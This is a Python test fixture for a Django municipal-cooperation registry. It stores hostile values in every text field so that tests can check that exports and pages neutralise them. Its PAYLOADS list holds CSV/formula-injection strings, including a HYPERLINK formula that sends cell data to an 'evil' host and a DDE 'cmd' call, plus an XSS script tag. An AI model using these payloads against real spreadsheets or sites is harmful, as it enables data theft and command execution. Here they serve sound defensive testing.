"""A small registry whose every text field holds a hostile value, stored past every input check.

Values are written with ``QuerySet.update`` (as legacy data, a migration or a future path would
store them), in every CharField and TextField without choices and in every text inside a JSONField
of the models listed in :data:`COVERED`; the fields are read from the models' ``_meta``, so a new
text field is covered without touching this file. :data:`NOT_IN_OUTPUTS` lists the models whose
texts reach no file of the app; a model in neither list fails ``test_every_model_is_classified``.
"""

from __future__ import annotations

import datetime as dt
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from django.apps import apps
from django.contrib.auth.models import User
from django.core.management import call_command
from django.db import IntegrityError, models, transaction
from django.utils import timezone

from samarbeid.intake.models import ImportRun
from samarbeid.intake.writers import write_csv
from samarbeid.registry import permissions
from samarbeid.registry.models import (
    Arrangement,
    ChangeRecord,
    Mapping,
    MappingMunicipality,
    MappingStatusChange,
    Membership,
    Region,
)
from samarbeid.verification import services
from samarbeid.verification.models import MunicipalityResponse, Proposal, Round
from tests.conftest import _Null

PAYLOADS = [
    '=HYPERLINK("http://evil/?l="&A2,"x")',
    "'=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]

#: The models whose texts reach a file, and how to find the rows of the test's mappings.
COVERED: dict[type[models.Model], str] = {
    Mapping: "pk__in",
    Region: "pk__in",
    Arrangement: "mapping__in",
    Membership: "arrangement__mapping__in",
    ChangeRecord: "mapping__in",
    MappingStatusChange: "mapping__in",
    Round: "mapping__in",
    MunicipalityResponse: "round__mapping__in",
    Proposal: "round__mapping__in",
    ImportRun: "",
}
#: Reference data (the gazetteer, task areas), users and keys: no file of the app shows their texts
#: but as reference names, which come from the shipped reference files, not from users.
NOT_IN_OUTPUTS = {
    "registry.County",
    "registry.Municipality",
    "registry.MunicipalityPeriod",
    "registry.MunicipalityChange",
    "registry.Population",
    "registry.TaskArea",
    "registry.ReferenceDataVersion",
    "registry.RoleAssignment",
    "registry.LoginFailure",
    "registry.MappingMunicipality",
    "registry.RegionMembership",
    "samarbeid_api.ApiKey",
}
#: The portfolio's texts reach its own outputs (the plan's Markdown, JSON, HTML, PDF, Word and
#: xlsx, its pages): tests/portfolio/test_hostile.py, test_documents.py and test_planfile*.py store
#: the payloads in them and read the outputs.
PORTFOLIO = "portfolio."
#: Likewise the adoption register's (its table, portfolio document, status-file template and
#: pages): tests/adoption/test_hostile.py poisons every text field of its models.
ADOPTION = "adoption."
#: And the cost-sharing models' (the calculation's JSON, Markdown, xlsx, PDF and pages):
#: tests/finance/test_hostile.py poisons every text field of its models.
FINANCE = "finance."


def text_fields(model: type[models.Model]) -> list[models.Field]:
    """Every field of ``model`` a text can be stored in (free text, not a choice)."""
    return [
        f
        for f in model._meta.concrete_fields
        if (isinstance(f, (models.CharField, models.TextField)) and not f.choices)
        or isinstance(f, models.JSONField)
    ]


def project_models_with_text() -> set[str]:
    return {
        model._meta.label
        for model in apps.get_models()
        if model.__module__.startswith("samarbeid.") and text_fields(model)
    }


def _poison(value: Any, payloads: Iterator[str]) -> Any:
    """Every text inside a JSON value replaced by a payload (keys and structure kept)."""
    if isinstance(value, str):
        return next(payloads)
    if isinstance(value, list):
        return [_poison(v, payloads) for v in value]
    if isinstance(value, dict):
        return {k: _poison(v, payloads) for k, v in value.items()}
    return value


def poison(mappings: list[Mapping]) -> int:
    """Store a payload in every text field of every covered row; returns how many were stored."""
    payloads = itertools.cycle(PAYLOADS)
    regions = list(
        MappingMunicipality.objects.filter(mapping__in=mappings, region__isnull=False).values_list(
            "region_id", flat=True
        )
    )
    stored = 0
    for model, lookup in COVERED.items():
        if not lookup:
            rows = model.objects.all()
        elif model in (Mapping, Region):
            rows = model.objects.filter(
                pk__in=[m.pk for m in mappings] if model is Mapping else regions
            )
        else:
            rows = model.objects.filter(**{lookup: mappings})
        fields = text_fields(model)
        for serial, row in enumerate(rows.order_by("pk")):
            for field in fields:
                if isinstance(field, models.JSONField):
                    value = _poison(getattr(row, field.attname), payloads)
                else:
                    text = f"{next(payloads)} {model.__name__[:3]}{serial}{field.name[:3]}"
                    value = text[: field.max_length] if field.max_length else text
                try:  # a check constraint (an organisation number is 9 digits) binds legacy data too
                    with transaction.atomic():
                        model.objects.filter(pk=row.pk).update(**{field.attname: value})
                except IntegrityError:
                    continue
                stored += 1
    return stored


def replace_in_texts(old: str, new: str) -> None:
    """``old`` replaced by ``new`` in every poisoned text (as a user would correct the data)."""

    def fix(value: Any) -> Any:
        if isinstance(value, str):
            return value.replace(old, new)
        if isinstance(value, list):
            return [fix(v) for v in value]
        if isinstance(value, dict):
            return {k: fix(v) for k, v in value.items()}
        return value

    for model in COVERED:
        fields = text_fields(model)
        for row in model.objects.all():
            values = {f.attname: fix(getattr(row, f.attname)) for f in fields}
            model.objects.filter(pk=row.pk).update(**values)


def _tables(drop_last: bool = False) -> dict[str, list[dict[str, str]]]:
    arrangements = [
        {
            "id": "A1",
            "navn": "Numedal IKS",
            "juridisk_form": "iks",
            "vertskommune": "Kongsberg",
            "arsverk": "3,5",
            "sektor": "teknisk",
            "etablert": "2001",
            "oppgaveomrader": "19",
            "navnevarianter": "NIKS; Numedal interkommunale",
        },
        {
            "id": "A2",
            "navn": "Barnevern Numedal",
            "juridisk_form": "vertskommune",
            "vertskommune": "Flesberg",
            "etablert": "2010",
            "sektor": "sosial",
        },
        {"id": "A3", "navn": "Legevakt", "juridisk_form": "avtale", "etablert": "2016"},
    ]
    members = [
        {"ordning_id": "A1", "deltaker": "Kongsberg", "eierandel": "60"},
        {"ordning_id": "A1", "deltaker": "Flesberg", "eierandel": "40"},
        {"ordning_id": "A1", "deltaker": "Statens vegvesen", "type": "annen"},
        {"ordning_id": "A2", "deltaker": "Flesberg"},
        {"ordning_id": "A2", "deltaker": "Rollag"},
        {"ordning_id": "A3", "deltaker": "Kongsberg"},
        {"ordning_id": "A3", "deltaker": "Rollag"},
    ]
    if drop_last:
        arrangements = arrangements[:-1]
        members = [m for m in members if m["ordning_id"] != "A3"]
    return {
        "Kartlegging": [
            {"felt": "navn", "verdi": "Test"},
            {"felt": "tittel", "verdi": "Tittel"},
            {"felt": "dato", "verdi": "2021-11-01"},
            {"felt": "beskrivelse", "verdi": "Beskrivelse"},
            {"felt": "kilde", "verdi": "Kilde"},
        ],
        "Kommuner": [
            {"kommune": "Kongsberg", "region": "Kongsbergregionen"},
            {"kommune": "Flesberg", "region": "Kongsbergregionen"},
            {"kommune": "Rollag", "region": "Numedal"},
        ],
        "Ordninger": arrangements,
        "Deltakere": members,
    }


def import_small(tmp_path: Path, name: str, drop_last: bool = False) -> Mapping:
    path = tmp_path / f"{name}.csv"
    write_csv(_tables(drop_last), path)
    call_command("import_file", str(path), mapping=name, stdout=_Null(), stderr=_Null())
    return Mapping.objects.get(name=name)


def build(tmp_path: Path) -> dict[str, Any]:
    """Two small mappings (the second one arrangement short, for the comparison), a round with
    proposals of every kind and status, a status change; then every text poisoned."""
    older = import_small(tmp_path, "Eldre", drop_last=True)
    newer = import_small(tmp_path, "Nyere")
    editor = User.objects.create_user("kari", password="x", first_name="Kari")
    for mapping in (older, newer):
        permissions.grant(editor, "kartlegger", mapping=mapping)
    round_ = services.open_round(
        newer, user=editor, deadline=timezone.localdate() + dt.timedelta(days=14), message="m"
    )
    responses = list(round_.responses.all())
    now = timezone.now()
    MunicipalityResponse.objects.filter(pk=responses[0].pk).update(
        status="bekreftet",
        opened_at=now,
        confirmed_at=now,
        confirmed_by_name="k",
        confirmation_note="n",
    )
    a1, a2, _a3 = newer.arrangements.order_by("ref")
    municipality = responses[0].municipality
    common = {
        "round": round_,
        "municipality": municipality,
        "comment": "c",
        "source": "s",
        "proposed_by_name": "p",
    }
    Proposal.objects.create(
        kind="endring",
        arrangement=a1,
        ref=a1.ref,
        name=a1.name,
        values={"navn": "x"},
        changed=["navn"],
        status="godtatt",
        decided_at=now,
        decided_by_name="d",
        decision_note="ok",
        **common,
    )
    Proposal.objects.create(
        kind="ny",
        name="Ny",
        values={"navn": "Ny", "merknader": "m"},
        memberships=[{"deltaker": "Kongsberg"}],
        changed=["navn"],
        **common,
    )
    Proposal.objects.create(
        kind="fjerning",
        removal="avsluttet",
        arrangement=a2,
        ref=a2.ref,
        name=a2.name,
        status="avvist",
        decided_at=now,
        decided_by_name="d",
        decision_note="nei",
        **common,
    )
    MappingStatusChange.objects.create(
        mapping=newer, before="utkast", after="kontroll", user_name="k", source="s"
    )
    stored = poison([older, newer])
    Mapping.objects.filter(pk__in=[older.pk, newer.pk]).update(status="frosset")
    older.refresh_from_db()
    newer.refresh_from_db()
    return {"older": older, "newer": newer, "round": round_, "editor": editor, "stored": stored}
